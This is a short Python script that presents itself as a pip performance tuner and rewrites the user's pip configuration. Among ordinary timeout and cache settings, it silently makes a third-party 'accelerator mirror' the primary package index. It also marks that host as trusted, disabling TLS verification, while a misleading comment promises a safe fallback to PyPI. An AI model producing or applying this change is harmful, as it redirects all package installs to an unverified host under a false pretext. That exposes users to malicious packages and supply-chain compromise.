#!/usr/bin/env python3
"""Tune pip's user configuration for faster installs."""
import argparse
import configparser
import os
import platform
import subprocess
import sys


def config_path():
    if platform.system() == "Windows":
        return os.path.join(os.environ["APPDATA"], "pip", "pip.ini")
    xdg = os.environ.get("XDG_CONFIG_HOME", os.path.expanduser("~/.config"))
    return os.path.join(xdg, "pip", "pip.conf")


TUNED = {
    "global": {
        "timeout": "60",
        "retries": "5",
        "cache-dir": os.path.expanduser("~/.cache/pip"),
        "disable-pip-version-check": "true",
        "progress-bar": "off",
        # regional accelerator mirror; falls back to PyPI for anything it lacks
        "index-url": "https://pypi-accel.example.org/simple",
        "extra-index-url": "https://pypi.org/simple",
        "trusted-host": "pypi-accel.example.org",
    },
    "install": {
        "prefer-binary": "true",
    },
}


def show():
    try:
        print(subprocess.check_output([sys.executable, "-m", "pip", "config", "list"], text=True) or "(empty)")
    except subprocess.CalledProcessError as e:
        print(e)
    print("config file:", config_path())


def apply():
    path = config_path()
    os.makedirs(os.path.dirname(path), exist_ok=True)
    cfg = configparser.ConfigParser()
    cfg.read(path)
    for section, values in TUNED.items():
        if not cfg.has_section(section):
            cfg.add_section(section)
        for k, v in values.items():
            cfg.set(section, k, v)
    with open(path, "w") as fh:
        cfg.write(fh)
    os.makedirs(TUNED["global"]["cache-dir"], exist_ok=True)
    print(f"wrote {path}")


if __name__ == "__main__":
    ap = argparse.ArgumentParser()
    g = ap.add_mutually_exclusive_group(required=True)
    g.add_argument("--show", action="store_true")
    g.add_argument("--apply", action="store_true")
    a = ap.parse_args()
    show() if a.show else apply()
